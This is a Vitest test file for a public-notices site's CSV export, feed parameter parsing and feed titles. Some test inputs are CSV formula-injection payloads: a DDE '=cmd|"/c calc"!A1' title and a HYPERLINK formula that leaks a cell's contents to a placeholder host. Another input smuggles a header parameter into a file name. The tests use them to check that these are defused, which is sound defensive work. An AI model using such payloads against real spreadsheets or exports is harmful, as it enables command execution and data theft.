import { describe, expect, it } from "vitest";
import { CSV_BOM, CSV_COLUMNS, csvCell, csvFileName, csvHeader, hitCsvRow } from "@/lib/server/feeds/csv";
import { feedAlternates } from "@/lib/shared/feeds/feed-links";
import { parseExportQuery, parseFeedQuery } from "@/lib/server/feeds/feed-params";
import { feedTitle } from "@/lib/shared/feeds/feed-title";
import { DEFAULT_SEARCH_PARAMS } from "@/lib/shared/search/search-params";
import type { SearchHit } from "@/lib/server/api/contract";

/** A minimal RFC 4180 reader, to check that what we write reads back cell for cell. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  return rows;
}

describe("CSV cells", () => {
  it("quotes commas, quotes and line breaks, doubling quotes (RFC 4180)", () => {
    expect(csvCell("plain 土地")).toBe("plain 土地");
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("line\nbreak")).toBe('"line\nbreak"');
    expect(csvCell(null)).toBe("");
    expect(csvCell(false)).toBe("false");
  });
  it.each(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x/?"&A1,"x")'])("defuses a formula: %j", (value) => {
    const [cell] = readCsv(csvRow1(value))[0]!;
    expect(cell!.startsWith("'")).toBe(true);
    expect(cell!.slice(1)).toBe(value);
  });
  it("does not touch numbers it writes itself, or text that merely contains =", () => {
    expect(csvCell(42)).toBe("42");
    expect(csvCell("a=b")).toBe("a=b");
  });
  it("drops lone surrogates and control characters", () => {
    expect(csvCell("a\uD800b\u0000c")).toBe("abc");
  });
});

const csvRow1 = (value: string) => `${csvCell(value)}\r\n`;

describe("CSV rows", () => {
  const hit: SearchHit = {
    id: "HP-1",
    title: '=cmd|"/c calc"!A1, 土地',
    number: "-17",
    language: "zh-CN",
    category: "规划",
    agency: { id: "planning", nameZh: "海平市规划局", nameEn: "Planning Bureau" },
    status: "in-force",
    withheld: true,
    version: 2,
    kind: "amend",
    publishedAt: "2026-01-01T00:00:00.000Z",
    updatedAt: "2026-01-02T00:00:00.000Z",
    effectiveDate: "2026-02-01",
    logIndex: null,
    snippet: null,
  };
  it("has one cell per column and reads back", () => {
    const rows = readCsv(csvHeader() + hitCsvRow(hit, "zh-CN", "https://gs.example"));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows[1]).toHaveLength(CSV_COLUMNS.length);
    const record = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, rows[1]![i]]));
    expect(record.title).toBe(`'${hit.title}`);
    expect(record.number).toBe("'-17");
    expect(record.agency).toBe("海平市规划局");
    expect(record.withheld).toBe("true");
    expect(record.log_index).toBe("");
    expect(record.permalink).toBe("https://gs.example/zh-CN/n/HP-1");
  });
  it("the BOM is U+FEFF, so Excel reads the file as UTF-8", () => {
    expect(new TextEncoder().encode(CSV_BOM)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });
  it("file names are plain ASCII whatever the query", () => {
    const name = csvFileName({ q: '土地"; filename=x.exe', agency: ["planning"] }, new Date("2026-05-06T00:00:00Z"));
    expect(name).toBe("gongshi-notices-planning-search-2026-05-06.csv");
    expect(name).toMatch(/^[a-z0-9.-]+$/);
  });
});

describe("feed and export parameters", () => {
  const q = (s: string) => new URLSearchParams(s);
  it("a feed defaults to the 50 newest, in Chinese", () => {
    const { params, locale, problems } = parseFeedQuery(q("q=土地"));
    expect(problems).toEqual([]);
    expect(locale).toBe("zh-CN");
    expect(params).toMatchObject({ q: "土地", sort: "newest", page: 1, pageSize: 50 });
  });
  it.each([
    ["locale=xx", "locale"],
    ["locale=en&locale=zh-CN", "locale"],
    ["status=bogus", "status"],
    ["page=2", "page"],
    ["sort=oldest", "sort"],
    ["pageSize=7", "pageSize"],
    ["from=2026-13-45", "from"],
    [`q=${"土".repeat(10_000)}`, "q"],
    ["unknown=1", "unknown"],
  ])("a feed refuses %s", (query, param) => {
    expect(parseFeedQuery(q(query)).problems.map((p) => p.param)).toContain(param);
  });
  it("an export accepts a list page's own query, page and all, and ignores the page", () => {
    const { params, locale, problems } = parseExportQuery(q("agency=planning&page=3&pageSize=50&sort=oldest&locale=en"));
    expect(problems).toEqual([]);
    expect(locale).toBe("en");
    expect(params).toMatchObject({ agency: ["planning"], page: 1, sort: "oldest" });
  });
  it.each(["page=-1", "status=x", "locale=xx", "to=2026-02-30"])("an export refuses %s", (query) => {
    expect(parseExportQuery(q(query)).problems.length).toBeGreaterThan(0);
  });
});

describe("feed titles and alternates", () => {
  const names = new Map([["planning", "海平市规划局"]]);
  it("say what the feed holds", () => {
    expect(feedTitle({ ...DEFAULT_SEARCH_PARAMS, agency: ["planning"] }, "zh-CN", names).title).toBe("海平市规划局 · 公示 Gongshi");
    expect(feedTitle({ ...DEFAULT_SEARCH_PARAMS, q: "土地" }, "en", names).title).toBe("Search: 土地 · Gongshi");
    expect(feedTitle(DEFAULT_SEARCH_PARAMS, "en", names).title).toBe("All notices · Gongshi");
    expect(feedTitle({ ...DEFAULT_SEARCH_PARAMS, status: ["retracted"] }, "zh-CN", names).title).toBe("状态：已撤回 · 公示 Gongshi");
  });
  it("alternates name all three formats for the same filters and drop paging", () => {
    const types = feedAlternates({ ...DEFAULT_SEARCH_PARAMS, agency: ["planning"], page: 4, pageSize: 100 }, "en");
    expect(Object.keys(types).sort()).toEqual(["application/atom+xml", "application/feed+json", "application/rss+xml"]);
    expect(types["application/rss+xml"]![0]!.url).toBe("/feeds/notices.rss?agency=planning&locale=en");
    expect(types["application/feed+json"]![0]!.url).toBe("/feeds/notices.json?agency=planning&locale=en");
    // What a feed link offers, the feed route accepts.
    for (const [entry] of Object.values(types)) expect(parseFeedQuery(new URL(entry!.url, "http://x").searchParams).problems).toEqual([]);
  });
});
